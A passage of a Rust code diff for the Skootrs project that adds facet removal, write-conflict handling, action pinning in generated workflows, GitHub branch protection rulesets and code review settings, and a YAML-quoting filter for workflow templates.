@@ -25,10 +25,14 @@ use std::str::FromStr;
 
 use askama::Template;
 use chrono::Datelike;
+use serde::Serialize;
 
-use tracing::info;
+use tracing::{info, warn};
 
-use crate::service::source::SourceService;
+use crate::service::{
+    pin::ActionPins,
+    source::{resolve_source_path, SourceService},
+};
 use skootrs_model::{
     security_insights::insights10::{
         SecurityInsightsVersion100YamlSchema,
@@ -44,20 +48,26 @@ use skootrs_model::{
     },
     skootrs::{
         facet::{
-            APIBundleFacet, APIBundleFacetParams, APIContent, CommonFacetCreateParams,
-            FacetCreateParams, FacetSetCreateParams, InitializedFacet, SourceBundleFacet,
-            SourceBundleFacetCreateParams, SourceFile, SourceFileContent, SupportedFacetType,
+            APIBundleFacet, APIBundleFacetParams, APIContent, BranchProtectionMode,
+            BranchProtectionParams, CodeReviewConfig, CommonFacetCreateParams, FacetConfig,
+            FacetCreateParams, FacetRemoveParams, FacetSetCreateParams, GUACEndpoint,
+            InitializedFacet, SourceBundleFacet, SourceBundleFacetCreateParams, SourceFile,
+            SourceFileConflict, SourceFileContent, SupportedFacetType, WriteOutcome, WritePolicy,
         },
         label::Label,
-        InitializedEcosystem, InitializedGithubRepo, InitializedRepo, SkootError,
+        InitializedEcosystem, InitializedGithubRepo, InitializedRepo, InitializedSource,
+        SkootError,
     },
 };
 
-use super::source::LocalSourceService;
+use super::{github::GithubClient, source::LocalSourceService};
 
 /// The `LocalFacetService` struct represents a service for creating and managing facets on the local machine.
-#[derive(Debug)]
-pub struct LocalFacetService {}
+#[derive(Debug, Default)]
+pub struct LocalFacetService {
+    /// The client for calling the GitHub API for API bundle facets.
+    pub github: GithubClient,
+}
 
 /// The `RootFacetService` trait provides an interface for initializing and managing a project's facets.
 /// This includes things like initializing and managing source files, source bundles, and API bundles.
@@ -71,6 +81,26 @@ pub trait RootFacetService {
         &self,
         params: FacetSetCreateParams,
     ) -> impl std::future::Future<Output = Result<Vec<InitializedFacet>, SkootError>> + Send;
+    /// Generates the content of the files a facet would write to the source, without writing them.
+    /// API bundle facets don't write any files.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the content can't be generated.
+    fn generate_source_files_content(
+        &self,
+        params: &FacetCreateParams,
+    ) -> Result<Vec<SourceFileContent>, SkootError>;
+    /// Removes a facet from a project. The recorded files of a source bundle facet are deleted from the
+    /// source, and the settings applied by an API bundle facet are reverted.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the facet's files can't be deleted or its settings can't be reverted.
+    fn remove(
+        &self,
+        params: FacetRemoveParams,
+    ) -> impl std::future::Future<Output = Result<(), SkootError>> + Send;
 }
 
 /// The `SourceBundleFacetService` trait provides an interface for initializing and managing a project's source
@@ -101,43 +131,126 @@ impl SourceBundleFacetService for LocalFacetService {
         params: SourceBundleFacetCreateParams,
     ) -> Result<SourceBundleFacet, SkootError> {
         let source_service = LocalSourceService {};
+        let source_bundle_content = self.generate_source_bundle_content(&params)?;
+
+        let mut source_files = Vec::new();
+        let mut conflicts = Vec::new();
+        for source_file_content in &source_bundle_content.source_files_content {
+            info!(
+                "Starting to write file {} to {}",
+                source_file_content.name, source_file_content.path
+            );
+            let recorded = params.recorded_source_files.iter().find(|recorded| {
+                recorded.name == source_file_content.name
+                    && recorded.path == source_file_content.path
+            });
+            let outcome = source_service.write_file_with_policy(
+                &params.common.source,
+                source_file_content.path.clone(),
+                source_file_content.name.clone(),
+                source_file_content.content.clone(),
+                &params.write_policy,
+                recorded,
+            )?;
+            match outcome {
+                WriteOutcome::Written | WriteOutcome::Merged => source_files.push(SourceFile {
+                    name: source_file_content.name.clone(),
+                    path: source_file_content.path.clone(),
+                    hash: source_service.hash_file(
+                        &params.common.source,
+                        source_file_content.path.clone(),
+                        source_file_content.name.clone(),
+                    )?,
+                }),
+                // Keep what was recorded so the file can still be merged the next time around.
+                WriteOutcome::Skipped => source_files.extend(recorded.cloned()),
+                WriteOutcome::Conflict(reason) => {
+                    let path = std::path::Path::new(&source_file_content.path)
+                        .join(&source_file_content.name);
+                    let path = path
+                        .strip_prefix("./")
+                        .unwrap_or(&path)
+                        .display()
+                        .to_string();
+                    warn!("Conflict writing {path}: {reason:?}");
+                    source_files.extend(recorded.cloned());
+                    conflicts.push(SourceFileConflict { path, reason });
+                }
+            }
+        }
+
+        let source_bundle_facet = SourceBundleFacet {
+            source_files: Some(source_files),
+            facet_type: params.facet_type,
+            source_files_content: None,
+            labels: params.labels,
+            conflicts,
+            config: params.config,
+        };
+
+        Ok(source_bundle_facet)
+    }
+}
+
+impl LocalFacetService {
+    /// Generates the content of the files for a source bundle facet without writing them to the source.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the content can't be generated.
+    pub fn generate_source_bundle_content(
+        &self,
+        params: &SourceBundleFacetCreateParams,
+    ) -> Result<SourceBundleContent, SkootError> {
         let default_source_bundle_content_handler = DefaultSourceBundleContentHandler {};
         // TODO: Update this to be more generic on the repo service
-        let language_specific_source_bundle_content_handler = match params.common.ecosystem {
-            InitializedEcosystem::Go(_) => GoGithubSourceBundleContentHandler {},
-            InitializedEcosystem::Maven(_) => todo!(),
-        };
+        // The language specific handler is only looked up for the facets that need it so the facets
+        // that are generic to all projects also work for ecosystems without one.
+        let language_specific_source_bundle_content_handler =
+            || -> Box<dyn SourceBundleContentGenerator> {
+                match params.common.ecosystem {
+                    InitializedEcosystem::Go(_) => Box::new(GoGithubSourceBundleContentHandler {}),
+                    InitializedEcosystem::Maven(_) => {
+                        Box::new(MavenGithubSourceBundleContentHandler {})
+                    }
+                }
+            };
 
         let source_bundle_content = match params.facet_type {
             SupportedFacetType::Readme
             | SupportedFacetType::License
             | SupportedFacetType::SecurityPolicy
             | SupportedFacetType::Scorecard
-            | SupportedFacetType::SecurityInsights => {
-                default_source_bundle_content_handler.generate_content(&params)?
+            | SupportedFacetType::SecurityInsights
+            | SupportedFacetType::SBOMGenerator
+            | SupportedFacetType::PinnedDependencies
+            | SupportedFacetType::VulnerabilityScanner
+            | SupportedFacetType::Allstar
+            | SupportedFacetType::GUACForwardingConfig
+            | SupportedFacetType::CodeOwners => {
+                default_source_bundle_content_handler.generate_content(params)?
             }
             SupportedFacetType::Gitignore
             | SupportedFacetType::SLSABuild
             | SupportedFacetType::DependencyUpdateTool => {
-                language_specific_source_bundle_content_handler.generate_content(&params)?
+                language_specific_source_bundle_content_handler().generate_content(params)?
+            }
+            SupportedFacetType::StaticCodeAnalysis => {
+                language_specific_source_bundle_content_handler().generate_content(params)?
             }
-            SupportedFacetType::SBOMGenerator => todo!(),
-            SupportedFacetType::StaticCodeAnalysis => todo!(),
             SupportedFacetType::BranchProtection => todo!(),
             SupportedFacetType::CodeReview => todo!(),
             SupportedFacetType::Fuzzing => {
-                language_specific_source_bundle_content_handler.generate_content(&params)?
+                language_specific_source_bundle_content_handler().generate_content(params)?
+            }
+            SupportedFacetType::PublishPackages => {
+                language_specific_source_bundle_content_handler().generate_content(params)?
             }
-            SupportedFacetType::PublishPackages => todo!(),
-            SupportedFacetType::PinnedDependencies => todo!(),
             SupportedFacetType::SAST => {
-                default_source_bundle_content_handler.generate_content(&params)?
+                default_source_bundle_content_handler.generate_content(params)?
             }
-            SupportedFacetType::VulnerabilityScanner => todo!(),
-            SupportedFacetType::GUACForwardingConfig => todo!(),
-            SupportedFacetType::Allstar => todo!(),
             SupportedFacetType::DefaultSourceCode => {
-                language_specific_source_bundle_content_handler.generate_content(&params)?
+                language_specific_source_bundle_content_handler().generate_content(params)?
             }
             SupportedFacetType::VulnerabilityReporting => {
                 unimplemented!("VulnerabilityReporting is not implemented for source bundles")
@@ -145,43 +258,283 @@ impl SourceBundleFacetService for LocalFacetService {
             SupportedFacetType::Other => todo!(),
         };
 
-        for source_file_content in &source_bundle_content.source_files_content {
-            info!(
-                "Starting to write file {} to {}",
-                source_file_content.name, source_file_content.path
-            );
-            source_service.write_file(
-                params.common.source.clone(),
-                source_file_content.path.clone(),
-                source_file_content.name.clone(),
-                source_file_content.content.clone(),
-            )?;
+        Ok(pin_workflows(source_bundle_content))
+    }
+}
+
+/// Pins the actions in any generated workflow files so the workflows Skootrs generates never reference
+/// actions by a mutable tag.
+fn pin_workflows(mut source_bundle_content: SourceBundleContent) -> SourceBundleContent {
+    let pins = ActionPins::load();
+    for source_file_content in &mut source_bundle_content.source_files_content {
+        if is_workflow_path(&source_file_content.path) {
+            source_file_content.content = pins.pin_workflow(&source_file_content.content).content;
+        }
+    }
+    source_bundle_content
+}
+
+fn is_workflow_path(path: &str) -> bool {
+    path.trim_start_matches("./").trim_end_matches('/') == ".github/workflows"
+}
+
+/// The name of the ruleset Skootrs manages for the `BranchProtection` facet.
+const BRANCH_PROTECTION_RULESET_NAME: &str = "Skootrs branch protection";
+
+/// The ID of the built-in repository admin role, for letting admins bypass a ruleset.
+const REPOSITORY_ADMIN_ROLE_ID: u64 = 5;
+
+/// The body for protecting a branch with classic branch protection.
+#[derive(Serialize, Debug)]
+struct ClassicBranchProtectionBody {
+    required_status_checks: Option<RequiredStatusChecks>,
+    enforce_admins: bool,
+    required_pull_request_reviews: Option<RequiredReviews>,
+    restrictions: Option<()>,
+    required_linear_history: bool,
+    allow_force_pushes: bool,
+    allow_deletions: bool,
+}
+
+#[derive(Serialize, Debug)]
+struct RequiredStatusChecks {
+    strict: bool,
+    contexts: Vec<String>,
+}
+
+/// The body for requiring pull request reviews on a protected branch.
+#[derive(Serialize, Debug, PartialEq, Eq)]
+struct RequiredReviews {
+    dismiss_stale_reviews: bool,
+    require_code_owner_reviews: bool,
+    required_approving_review_count: u8,
+}
+
+impl From<&CodeReviewConfig> for RequiredReviews {
+    fn from(config: &CodeReviewConfig) -> Self {
+        Self {
+            dismiss_stale_reviews: config.dismiss_stale_reviews,
+            require_code_owner_reviews: config.require_code_owner_reviews(),
+            required_approving_review_count: config.required_approving_review_count,
         }
+    }
+}
 
-        let source_files: Vec<SourceFile> = source_bundle_content
-            .source_files_content
+/// The body for creating or updating a repository ruleset.
+#[derive(Serialize, Debug)]
+struct RulesetBody {
+    name: &'static str,
+    target: &'static str,
+    enforcement: &'static str,
+    bypass_actors: Vec<RulesetBypassActor>,
+    conditions: RulesetConditions,
+    rules: Vec<RulesetRule>,
+}
+
+impl RulesetBody {
+    fn new(
+        branch: &str,
+        protection: &BranchProtectionParams,
+        required_status_checks: Vec<String>,
+    ) -> Self {
+        let mut rules = vec![RulesetRule::Deletion, RulesetRule::NonFastForward];
+        if protection.require_linear_history {
+            rules.push(RulesetRule::RequiredLinearHistory);
+        }
+        if protection.require_signed_commits {
+            rules.push(RulesetRule::RequiredSignatures);
+        }
+        if !required_status_checks.is_empty() {
+            rules.push(RulesetRule::RequiredStatusChecks {
+                strict_required_status_checks_policy: true,
+                required_status_checks: required_status_checks
+                    .into_iter()
+                    .map(|context| RulesetStatusCheck { context })
+                    .collect(),
+            });
+        }
+        if let Some(reviews) = &protection.required_reviews {
+            rules.push(RulesetRule::PullRequest {
+                required_approving_review_count: reviews.required_approving_review_count,
+                dismiss_stale_reviews_on_push: reviews.dismiss_stale_reviews,
+                require_code_owner_review: reviews.require_code_owner_reviews(),
+                require_last_push_approval: false,
+                required_review_thread_resolution: false,
+            });
+        }
+
+        let bypass_actors = if protection.enforce_admins {
+            vec![]
+        } else {
+            vec![RulesetBypassActor {
+                actor_id: REPOSITORY_ADMIN_ROLE_ID,
+                actor_type: "RepositoryRole",
+                bypass_mode: "always",
+            }]
+        };
+
+        Self {
+            name: BRANCH_PROTECTION_RULESET_NAME,
+            target: "branch",
+            enforcement: "active",
+            bypass_actors,
+            conditions: RulesetConditions {
+                ref_name: RulesetRefName {
+                    include: vec![format!("refs/heads/{branch}")],
+                    exclude: vec![],
+                },
+            },
+            rules,
+        }
+    }
+}
+
+#[derive(Serialize, Debug)]
+struct RulesetBypassActor {
+    actor_id: u64,
+    actor_type: &'static str,
+    bypass_mode: &'static str,
+}
+
+#[derive(Serialize, Debug)]
+struct RulesetConditions {
+    ref_name: RulesetRefName,
+}
+
+#[derive(Serialize, Debug)]
+struct RulesetRefName {
+    include: Vec<String>,
+    exclude: Vec<String>,
+}
+
+#[derive(Serialize, Debug)]
+#[serde(tag = "type", content = "parameters", rename_all = "snake_case")]
+enum RulesetRule {
+    Deletion,
+    NonFastForward,
+    RequiredLinearHistory,
+    RequiredSignatures,
+    RequiredStatusChecks {
+        strict_required_status_checks_policy: bool,
+        required_status_checks: Vec<RulesetStatusCheck>,
+    },
+    PullRequest {
+        required_approving_review_count: u8,
+        dismiss_stale_reviews_on_push: bool,
+        require_code_owner_review: bool,
+        require_last_push_approval: bool,
+        required_review_thread_resolution: bool,
+    },
+}
+
+#[derive(Serialize, Debug)]
+struct RulesetStatusCheck {
+    context: String,
+}
+
+/// Returns the names of the checks reported by the source's workflows that run on pull requests, which are
+/// the checks a protected branch can require.
+///
+/// Jobs calling reusable workflows and jobs with matrices using `include` or `exclude` are skipped since their
+/// check names depend on the called workflow or can't be known until they run.
+fn workflow_status_checks(source: &InitializedSource) -> Result<Vec<String>, SkootError> {
+    let workflows_path = resolve_source_path(source, ".github/", "workflows")?;
+    if !workflows_path.is_dir() {
+        return Ok(vec![]);
+    }
+    let mut status_checks = Vec::new();
+    for entry in std::fs::read_dir(&workflows_path)? {
+        let path = entry?.path();
+        if !path
+            .extension()
+            .is_some_and(|extension| extension == "yml" || extension == "yaml")
+        {
+            continue;
+        }
+        let workflow: serde_yaml::Value = serde_yaml::from_str(&std::fs::read_to_string(&path)?)?;
+        let runs_on_pull_requests = match &workflow["on"] {
+            serde_yaml::Value::String(event) => event == "pull_request",
+            serde_yaml::Value::Sequence(events) => events.iter().any(|e| e == "pull_request"),
+            serde_yaml::Value::Mapping(events) => events.contains_key("pull_request"),
+            _ => false,
+        };
+        if !runs_on_pull_requests {
+            continue;
+        }
+        let Some(jobs) = workflow["jobs"].as_mapping() else {
+            continue;
+        };
+        for (id, job) in jobs {
+            if job.get("uses").is_some() {
+                continue;
+            }
+            let name = match job["name"].as_str() {
+                Some(name) if !name.contains("${{") => name,
+                _ => id.as_str().unwrap_or_default(),
+            };
+            match job["strategy"].get("matrix") {
+                None => status_checks.push(name.to_string()),
+                Some(matrix) => {
+                    if let Some(combinations) = matrix_combinations(matrix) {
+                        status_checks.extend(
+                            combinations
+                                .into_iter()
+                                .map(|combination| format!("{name} ({combination})")),
+                        );
+                    }
+                }
+            }
+        }
+    }
+    status_checks.sort();
+    Ok(status_checks)
+}
+
+/// Returns the values of each combination of a matrix, the way GitHub puts them in the names of the checks,
+/// or `None` if they can't be known from the workflow.
+fn matrix_combinations(matrix: &serde_yaml::Value) -> Option<Vec<String>> {
+    let mut combinations = vec![Vec::<String>::new()];
+    for (key, values) in matrix.as_mapping()? {
+        if key == "include" || key == "exclude" {
+            return None;
+        }
+        let values = values
+            .as_sequence()?
             .iter()
-            .map(|source_file_content| {
-                Ok::<SourceFile, SkootError>(SourceFile {
-                    name: source_file_content.name.clone(),
-                    path: source_file_content.path.clone(),
-                    hash: source_service.hash_file(
-                        &params.common.source,
-                        source_file_content.path.clone(),
-                        source_file_content.name.clone(),
-                    )?,
+            .map(|value| match value {
+                serde_yaml::Value::String(value) => Some(value.clone()),
+                serde_yaml::Value::Number(value) => Some(value.to_string()),
+                serde_yaml::Value::Bool(value) => Some(value.to_string()),
+                _ => None,
+            })
+            .collect::<Option<Vec<_>>>()?;
+        combinations = combinations
+            .into_iter()
+            .flat_map(|combination| {
+                values.iter().map(move |value| {
+                    let mut combination = combination.clone();
+                    combination.push(value.clone());
+                    combination
                 })
             })
-            .collect::<Result<Vec<_>, _>>()?;
-
-        let source_bundle_facet = SourceBundleFacet {
-            source_files: Some(source_files),
-            facet_type: params.facet_type,
-            source_files_content: None,
-            labels: params.labels,
-        };
+            .collect();
+    }
+    Some(
+        combinations
+            .into_iter()
+            .map(|combination| combination.join(", "))
+            .collect(),
+    )
+}
 
-        Ok(source_bundle_facet)
+/// Custom filters for the templates.
+mod filters {
+    /// Quotes a value as a YAML double quoted string, so a value from the user can't change the structure
+    /// of a workflow.
+    #[allow(clippy::unnecessary_wraps)]
+    pub fn yaml_string<T: std::fmt::Display>(value: T) -> askama::Result<String> {
+        // JSON strings are valid YAML double quoted strings.
+        Ok(serde_json::Value::String(value.to_string()).to_string())
     }
 }
 
@@ -203,7 +556,13 @@ impl APIBundleFacetService for LocalFacetService {
             SupportedFacetType::CodeReview
             | SupportedFacetType::BranchProtection
             | SupportedFacetType::VulnerabilityReporting => {
-                let github_api_bundle_handler = GithubAPIBundleHandler {};
+                let InitializedRepo::Github(repo) = &params.common.repo;
+                let github_api_bundle_handler = GithubAPIBundleHandler {
+                    client: self
+                        .github
+                        .octocrab_for(&repo.organization.get_name())
+                        .await?,
+                };
                 let api_bundle_facet = github_api_bundle_handler.generate(&params).await?;
                 Ok(api_bundle_facet)
             }
@@ -244,6 +603,87 @@ impl RootFacetService for LocalFacetService {
         let results = futures::future::try_join_all(futures).await?;
         Ok(results)
     }
+
+    fn generate_source_files_content(
+        &self,
+        params: &FacetCreateParams,
+    ) -> Result<Vec<SourceFileContent>, SkootError> {
+        match params {
+            FacetCreateParams::SourceBundle(params) => Ok(self
+                .generate_source_bundle_content(params)?
+                .source_files_content),
+            FacetCreateParams::APIBundle(_) => Ok(vec![]),
+        }
+    }
+
+    async fn remove(&self, params: FacetRemoveParams) -> Result<(), SkootError> {
+        match &params.facet {
+            InitializedFacet::SourceBundle(source_bundle_facet) => {
+                let source_service = LocalSourceService {};
+                let source_files = source_bundle_facet.source_files.clone().unwrap_or_default();
+                // All the files are checked before any are removed so the facet isn't left half removed.
+                let mut modified = Vec::new();
+                for source_file in &source_files {
+                    let exists = resolve_source_path(
+                        &params.common.source,
+                        &source_file.path,
+                        &source_file.name,
+                    )?
+                    .exists();
+                    if exists
+                        && source_service.hash_file(
+                            &params.common.source,
+                            &source_file.path,
+                            source_file.name.clone(),
+                        )? != source_file.hash
+                    {
+                        let path = std::path::Path::new(&source_file.path).join(&source_file.name);
+                        modified.push(
+                            path.strip_prefix("./")
+                                .unwrap_or(&path)
+                                .display()
+                                .to_string(),
+                        );
+                    }
+                }
+                if !modified.is_empty() {
+                    if !params.force {
+                        return Err(format!(
+                            "The {} facet can't be removed since these files were modified since they were recorded: {}. Remove them by hand or force the removal",
+                            source_bundle_facet.facet_type,
+                            modified.join(", ")
+                        )
+                        .into());
+                    }
+                    warn!("Removing modified files {}", modified.join(", "));
+                }
+                for source_file in &source_files {
+                    info!(
+                        "Removing file {} in {} of the {} facet",
+                        source_file.name, source_file.path, source_bundle_facet.facet_type
+                    );
+                    source_service.remove_file(
+                        &params.common.source,
+                        &source_file.path,
+                        source_file.name.clone(),
+                    )?;
+                }
+                Ok(())
+            }
+            InitializedFacet::APIBundle(api_bundle_facet) => {
+                let InitializedRepo::Github(repo) = &params.common.repo;
+                let github_api_bundle_handler = GithubAPIBundleHandler {
+                    client: self
+                        .github
+                        .octocrab_for(&repo.organization.get_name())
+                        .await?,
+                };
+                github_api_bundle_handler
+                    .revert(repo, api_bundle_facet)
+                    .await
+            }
+        }
+    }
 }
 
 /// The `APIBundleHandler` trait provides an interface for generating an `APIBundleFacet`.
@@ -251,75 +691,302 @@ impl RootFacetService for LocalFacetService {
 /// vulnerability reporting, etc.
 trait APIBundleHandler {
     async fn generate(&self, params: &APIBundleFacetParams) -> Result<APIBundleFacet, SkootError>;
+    async fn revert(
+        &self,
+        repo: &InitializedGithubRepo,
+        facet: &APIBundleFacet,
+    ) -> Result<(), SkootError>;
 }
 
 /// The `GithubAPIBundleHandler` struct represents a handler for generating an `APIBundleFacet` related to
 /// API calls made to Github.
-struct GithubAPIBundleHandler {}
+struct GithubAPIBundleHandler {
+    client: std::sync::Arc<octocrab::Octocrab>,
+}
 
 impl APIBundleHandler for GithubAPIBundleHandler {
     async fn generate(&self, params: &APIBundleFacetParams) -> Result<APIBundleFacet, SkootError> {
         let InitializedRepo::Github(repo) = &params.common.repo;
         match params.facet_type {
-            SupportedFacetType::BranchProtection => self.generate_branch_protection(repo).await,
+            SupportedFacetType::BranchProtection => {
+                let protection = match &params.config {
+                    Some(FacetConfig::BranchProtection(protection)) => protection.clone(),
+                    _ => BranchProtectionParams::default(),
+                };
+                self.generate_branch_protection(repo, &params.common.source, &protection)
+                    .await
+                    .map(|mut facet| {
+                        facet.config.clone_from(&params.config);
+                        facet
+                    })
+            }
             SupportedFacetType::VulnerabilityReporting => {
                 self.generate_vulnerability_reporting(repo).await
             }
+            SupportedFacetType::CodeReview => {
+                let Some(FacetConfig::CodeReview(config)) = &params.config else {
+                    return Err("The CodeReview facet requires a code review config".into());
+                };
+                self.generate_code_review(repo, config).await
+            }
             _ => todo!("Not implemented yet"),
         }
     }
+
+    async fn revert(
+        &self,
+        repo: &InitializedGithubRepo,
+        facet: &APIBundleFacet,
+    ) -> Result<(), SkootError> {
+        let repo_endpoint = format!(
+            "/repos/{owner}/{repo}",
+            owner = repo.organization.get_name(),
+            repo = repo.name,
+        );
+        match facet.facet_type {
+            SupportedFacetType::BranchProtection => {
+                let protection = match &facet.config {
+                    Some(FacetConfig::BranchProtection(protection)) => protection.clone(),
+                    _ => BranchProtectionParams::default(),
+                };
+                let branch = protection.branch.as_deref().unwrap_or(&repo.default_branch);
+                match protection.mode {
+                    BranchProtectionMode::Classic => {
+                        self.delete(&format!("{repo_endpoint}/branches/{branch}/protection"))
+                            .await
+                    }
+                    BranchProtectionMode::Ruleset => {
+                        let rulesets_endpoint = format!("{repo_endpoint}/rulesets");
+                        let existing: Vec<serde_json::Value> =
+                            self.client.get(&rulesets_endpoint, None::<&()>).await?;
+                        let existing_id = existing
+                            .iter()
+                            .find(|existing| existing["name"] == BRANCH_PROTECTION_RULESET_NAME)
+                            .and_then(|existing| existing["id"].as_u64());
+                        match existing_id {
+                            Some(id) => self.delete(&format!("{rulesets_endpoint}/{id}")).await,
+                            None => Ok(()),
+                        }
+                    }
+                }
+            }
+            SupportedFacetType::CodeReview => {
+                self.delete(&format!(
+                    "{repo_endpoint}/branches/{branch}/protection/required_pull_request_reviews",
+                    branch = repo.default_branch,
+                ))
+                .await
+            }
+            SupportedFacetType::VulnerabilityReporting => {
+                self.delete(&format!("{repo_endpoint}/private-vulnerability-reporting"))
+                    .await
+            }
+            _ => Err(format!("The {} facet can't be reverted", facet.facet_type).into()),
+        }
+    }
 }
 
 impl GithubAPIBundleHandler {
+    /// Reverts a setting by deleting it. A setting that's already gone, e.g. the reviews of a branch
+    /// protection that was removed first, counts as reverted.
+    async fn delete(&self, endpoint: &str) -> Result<(), SkootError> {
+        info!("Reverting {}", endpoint);
+        // Note: These calls just return a status with no JSON output.
+        let response = self.client._delete(endpoint, None::<&()>).await?;
+        if response.status().as_u16() == 404 {
+            info!("{} was already reverted", endpoint);
+            return Ok(());
+        }
+        octocrab::map_github_error(response).await?;
+        Ok(())
+    }
+
     async fn generate_branch_protection(
         &self,
         repo: &InitializedGithubRepo,
+        source: &InitializedSource,
+        protection: &BranchProtectionParams,
     ) -> Result<APIBundleFacet, SkootError> {
+        let mut required_status_checks = workflow_status_checks(source)?;
+        required_status_checks.extend(protection.required_status_checks.iter().cloned());
+        required_status_checks.sort();
+        required_status_checks.dedup();
+
+        let branch = protection.branch.as_deref().unwrap_or(&repo.default_branch);
+        let apis = match protection.mode {
+            BranchProtectionMode::Classic => {
+                self.apply_classic_branch_protection(
+                    repo,
+                    branch,
+                    protection,
+                    required_status_checks,
+                )
+                .await?
+            }
+            BranchProtectionMode::Ruleset => {
+                self.apply_branch_protection_ruleset(
+                    repo,
+                    branch,
+                    protection,
+                    required_status_checks,
+                )
+                .await?
+            }
+        };
+
+        Ok(APIBundleFacet {
+            facet_type: SupportedFacetType::BranchProtection,
+            apis,
+            labels: vec![],
+            config: None,
+        })
+    }
+
+    async fn apply_classic_branch_protection(
+        &self,
+        repo: &InitializedGithubRepo,
+        branch: &str,
+        protection: &BranchProtectionParams,
+        required_status_checks: Vec<String>,
+    ) -> Result<Vec<APIContent>, SkootError> {
+        if branch.contains(['*', '?', '[']) {
+            return Err(format!(
+                "Classic branch protection only protects a single branch, use a ruleset to protect {branch}"
+            )
+            .into());
+        }
         let enforce_branch_protection_endpoint = format!(
             "/repos/{owner}/{repo}/branches/{branch}/protection",
             owner = repo.organization.get_name(),
             repo = repo.name,
-            branch = "main",
         );
         info!(
             "Enabling branch protection for {}",
             enforce_branch_protection_endpoint
         );
-        // TODO: This should be a struct that serializes to json instead of just json directly
-        let enforce_branch_protection_body = serde_json::json!({
-            "enforce_admins": true,
-            "required_pull_request_reviews": null,
-            "required_status_checks": null,
-            "restrictions": null,
-            "required_linear_history": true,
-            "allow_force_pushes": false,
-            "allow_deletions": null,
-        });
-
-        // FIXME: I don't quite know why in some cases octocrab loses my auth and I have to re-authenticate
-        let o: octocrab::Octocrab = octocrab::Octocrab::builder()
-            .personal_token(
-                std::env::var("GITHUB_TOKEN").expect("GITHUB_TOKEN env var must be populated"),
-            )
-            .build()?;
-        octocrab::initialise(o);
-        let response: serde_json::Value = octocrab::instance()
+        let enforce_branch_protection_body = ClassicBranchProtectionBody {
+            required_status_checks: (!required_status_checks.is_empty()).then_some(
+                RequiredStatusChecks {
+                    strict: true,
+                    contexts: required_status_checks,
+                },
+            ),
+            enforce_admins: protection.enforce_admins,
+            required_pull_request_reviews: protection
+                .required_reviews
+                .as_ref()
+                .map(RequiredReviews::from),
+            restrictions: None,
+            required_linear_history: protection.require_linear_history,
+            allow_force_pushes: false,
+            allow_deletions: false,
+        };
+        let response: serde_json::Value = self
+            .client
             .put(
                 &enforce_branch_protection_endpoint,
                 Some(&enforce_branch_protection_body),
             )
             .await?;
+        let mut apis = vec![APIContent {
+            name: "Enforce Branch Protection".to_string(),
+            url: enforce_branch_protection_endpoint.clone(),
+            response: serde_json::to_string_pretty(&response)?,
+        }];
+
+        // Signed commits aren't part of the protection body and have their own endpoint.
+        if protection.require_signed_commits {
+            let required_signatures_endpoint =
+                format!("{enforce_branch_protection_endpoint}/required_signatures");
+            let response: serde_json::Value = self
+                .client
+                .post(&required_signatures_endpoint, None::<&()>)
+                .await?;
+            apis.push(APIContent {
+                name: "Require Signed Commits".to_string(),
+                url: required_signatures_endpoint,
+                response: serde_json::to_string_pretty(&response)?,
+            });
+        }
+
+        Ok(apis)
+    }
+
+    async fn apply_branch_protection_ruleset(
+        &self,
+        repo: &InitializedGithubRepo,
+        branch: &str,
+        protection: &BranchProtectionParams,
+        required_status_checks: Vec<String>,
+    ) -> Result<Vec<APIContent>, SkootError> {
+        let rulesets_endpoint = format!(
+            "/repos/{owner}/{repo}/rulesets",
+            owner = repo.organization.get_name(),
+            repo = repo.name,
+        );
+        let ruleset = RulesetBody::new(branch, protection, required_status_checks);
+
+        // The ruleset is updated in place when the project is updated, since names have to be unique.
+        let existing: Vec<serde_json::Value> =
+            self.client.get(&rulesets_endpoint, None::<&()>).await?;
+        let existing_id = existing
+            .iter()
+            .find(|existing| existing["name"] == BRANCH_PROTECTION_RULESET_NAME)
+            .and_then(|existing| existing["id"].as_u64());
+        let (url, response): (String, serde_json::Value) = match existing_id {
+            Some(id) => {
+                let url = format!("{rulesets_endpoint}/{id}");
+                info!("Updating branch protection ruleset {}", url);
+                let response = self.client.put(&url, Some(&ruleset)).await?;
+                (url, response)
+            }
+            None => {
+                info!(
+                    "Creating branch protection ruleset for {}",
+                    rulesets_endpoint
+                );
+                let response = self.client.post(&rulesets_endpoint, Some(&ruleset)).await?;
+                (rulesets_endpoint, response)
+            }
+        };
+
+        Ok(vec![APIContent {
+            name: "Enforce Branch Protection Ruleset".to_string(),
+            url,
+            response: serde_json::to_string_pretty(&response)?,
+        }])
+    }
+
+    // Note: This updates the reviews of the branch protection set up by the BranchProtection facet, so it has
+    // to run after it.
+    async fn generate_code_review(
+        &self,
+        repo: &InitializedGithubRepo,
+        config: &CodeReviewConfig,
+    ) -> Result<APIBundleFacet, SkootError> {
+        let code_review_endpoint = format!(
+            "/repos/{owner}/{repo}/branches/{branch}/protection/required_pull_request_reviews",
+            owner = repo.organization.get_name(),
+            repo = repo.name,
+            branch = repo.default_branch,
+        );
+        info!("Requiring code review for {}", code_review_endpoint);
+        let response: serde_json::Value = self
+            .client
+            .patch(&code_review_endpoint, Some(&RequiredReviews::from(config)))
+            .await?;
 
         let apis = vec![APIContent {
-            name: "Enforce Branch Protection".to_string(),
-            url: enforce_branch_protection_endpoint,
+            name: "Require Code Review".to_string(),
+            url: code_review_endpoint,
             response: serde_json::to_string_pretty(&response)?,
         }];
 
         Ok(APIBundleFacet {
-            facet_type: SupportedFacetType::BranchProtection,
+            facet_type: SupportedFacetType::CodeReview,
             apis,
             labels: vec![],
+            config: None,
         })
     }
 
@@ -338,7 +1005,7 @@ impl GithubAPIBundleHandler {
         );
         // Note: This call just returns a status with no JSON output also the normal .put I think expects json
         // output and will fail.
-        octocrab::instance()
+        self.client
             ._put(&vulnerability_reporting_endpoint, None::<&()>)
             .await?;
         let apis = vec![APIContent {
@@ -355,6 +1022,7 @@ impl GithubAPIBundleHandler {
             facet_type: SupportedFacetType::VulnerabilityReporting,
             apis,
             labels: vec![],
+            config: None,
         })
     }
 }
@@ -384,6 +1052,18 @@ impl SourceBundleContentGenerator for DefaultSourceBundleContentHandler {
             SupportedFacetType::Scorecard => self.generate_scorecard_content(params),
             SupportedFacetType::SecurityInsights => self.generate_security_insights_content(params),
             SupportedFacetType::SAST => self.generate_sast_content(params),
+            SupportedFacetType::SBOMGenerator => self.generate_sbom_generator_content(params),
+            SupportedFacetType::PinnedDependencies => {
+                self.generate_pinned_dependencies_content(params)
+            }
